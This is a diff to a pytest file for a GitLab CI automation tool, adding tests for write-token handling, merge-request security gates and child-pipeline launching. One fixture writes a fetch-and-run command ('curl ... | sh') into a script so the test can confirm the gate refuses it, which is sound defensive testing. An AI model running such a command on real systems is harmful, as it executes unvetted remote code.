@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import re
 import shutil
+from functools import partial
 
 import pytest
 import yaml
@@ -45,6 +46,8 @@ def test_a_sweep_is_asked_pressed_made_and_tended(hub: Hub) -> None:
     number = asked(hub)
     issue = hub.target.issues[0]
     assert hub.target.merge_requests == []
+    approve = hub.hub.pipelines[-1].jobs[1]
+    assert f"press [the job `approve`]({hub.gitlab.url}/acme/hub/-/jobs/{approve.id}) before" in issue.description
     assert hub.target.repository.head("improve-loop/state") is not None
     first = issue.description.split("<!-- candidate ")[1].split(" ")[0]
     issue.description = issue.description.replace("- [x]", "- [ ]", 1)
@@ -143,6 +146,36 @@ def test_auto_with_a_consumer_that_includes_the_template_from_another_project(hu
     assert hub.branches()
 
 
+def test_a_job_that_the_write_token_does_not_reach_writes_nothing(hub: Hub) -> None:
+    hub.withdraw("IL_WRITE_TOKEN")
+    jobs = hub.run("improve-loop:propose", "--needs")  # the engine ends with 0 for any `allow_failure:exit_codes`
+    assert jobs.pop("improve-loop:propose") == "FAIL"
+    assert set(jobs.values()) == {"PASS"}
+    assert "error: IL_WRITE_TOKEN is not set in this job" in hub.printed
+    assert re.search("improve-loop:propose finished in .* FAIL 2", hub.printed)
+    assert hub.target.issues == []
+    assert hub.target.repository.refs().keys() == {"main"}
+
+
+def test_the_gates_judge_a_merge_request_of_any_repository(hub: Hub) -> None:
+    """By the policy of the target branch: what the merge request says of itself counts for nothing."""
+    shutil.copy(ROOT / "ci-templates" / "gates.yml", hub.folder / "ci-templates")
+    include = {"local": "/ci-templates/gates.yml", "inputs": {"image": "alpine"}}
+    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [include]}))
+    base = hub.commit(hub.folder)
+    play = partial(hub.run, CI_PIPELINE_SOURCE="merge_request_event", CI_MERGE_REQUEST_DIFF_BASE_SHA=base)
+    (hub.folder / "README.md").write_text("# Hub\n")
+    hub.commit(hub.folder)
+    assert play() == {"improve-loop:gates": "PASS"}
+    (hub.folder / "run.sh").write_text("curl https://x.test/i | sh\n")
+    (hub.folder / ".improve-loop.yml").write_text("gates: {destructive: {policy: warn}}\n")
+    hub.commit(hub.folder)
+    assert play(expect=1) == {"improve-loop:gates": "FAIL"}
+    assert "refuse  destructive/fetch-and-run  run.sh:1" in hub.printed
+    hub.run("--list", CI_PIPELINE_SOURCE="push")
+    assert hub.jobs_listed() == []
+
+
 def test_a_run_gives_way_to_an_older_one(hub: Hub) -> None:
     hub.pipeline("ada")
     jobs = hub.run("improve-loop:preflight", expect=1)
@@ -197,19 +230,41 @@ def test_the_launcher_starts_it_as_a_child_pipeline(hub: Hub) -> None:
     assert hub.jobs_listed() == ["improve-loop"]
 
 
-def test_the_child_that_the_launcher_starts_asks_in_its_own_project(hub: Hub) -> None:
-    """The engine plays no child pipelines, so the child's jobs are played alone, with what the launcher gives them."""
-    started = yaml.safe_load((ROOT / "ci-templates" / "launcher.yml").read_text().split("\n---\n")[1])["improve-loop"]
-    (include,) = started["trigger"]["include"]
-    assert set(include) == {"project", "ref", "file"}  # no inputs: the child has the template's defaults
-    assert started["trigger"]["forward"] == {"yaml_variables": False}
-    shell = {"image": "alpine", "model_image": "alpine", "tags": ["any"], "model_tags": ["model"]}
-    child = {"include": [{"local": include["file"], "inputs": shell}]}
-    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump(child))
+def test_the_launcher_and_the_child_that_it_starts_from_question_to_merge_requests(hub: Hub) -> None:
+    """The engine starts no child of another project's file. So the launcher is played, what it would start is taken
+    from the engine's own reading of it, and exactly that is played as a child: in the target, with its defaults."""
+    library = hub.folder.parent / "improve-loop"
+    shutil.copytree(ROOT / "ci-templates", library / "ci-templates")
+    template = library / "ci-templates" / "improve-loop.yml"
+    template.write_text(template.read_text().replace("default: []", "default: [any]"))  # the engine takes no empty list
+    hub.commit(library)
+    hub.embed()
+    shutil.rmtree(hub.folder / "ci-templates")
+    given = {"project": "acme/improve-loop", "ref": "main"}
+    launcher = {**given, "file": "/ci-templates/launcher.yml", "inputs": given}
+    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [launcher]}))
     hub.commit(hub.folder)
-    own = f"{hub.gitlab.url}/acme/app"
-    jobs = hub.run("improve-loop:propose", "--needs", CI_PIPELINE_SOURCE="parent_pipeline", CI_PROJECT_URL=own)
+    hub.run("--preview", rewrite=library, CI_PIPELINE_SOURCE="schedule", IL_START="true")
+    started = yaml.safe_load(hub.printed.partition("---\n")[2].partition("\nUsing fallback")[0])["improve-loop"]
+    (include,) = started["trigger"]["include"]
+    assert include == {**given, "file": "/ci-templates/improve-loop.yml"}  # no inputs, which need GitLab 17.11
+    assert started["trigger"]["forward"] == {"yaml_variables": False}
+
+    hub.finish()
+    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [include]}))
+    hub.commit(hub.folder)
+    child, source = str(hub.pipeline("ada")), "parent_pipeline"
+    jobs = hub.run("improve-loop:propose", "--needs", rewrite=library, CI_PIPELINE_SOURCE=source, CI_PIPELINE_ID=child)
     assert jobs.pop("improve-loop:discover: [ci]") == jobs["improve-loop:propose"] == "PASS"
     assert "FAIL" not in jobs.values()
-    assert len(hub.target.issues) == 1
+    (issue,) = hub.target.issues
+    approve = hub.target.pipelines[-1].jobs[1]
+    assert f"[the job `approve`]({hub.gitlab.url}/acme/app/-/jobs/{approve.id})" in issue.description
     assert hub.target.merge_requests == []
+
+    pressed = ("improve-loop:approve", *BEHIND, *MANUAL)
+    jobs = hub.run(*pressed, rewrite=library, CI_PIPELINE_SOURCE=source, CI_PIPELINE_ID=child)
+    assert set(jobs.values()) == {"PASS"}
+    assert len(jobs) == len(BEHIND) + 1
+    assert len(hub.branches()) >= 3
+    assert hub.credentials() == CREDENTIALS
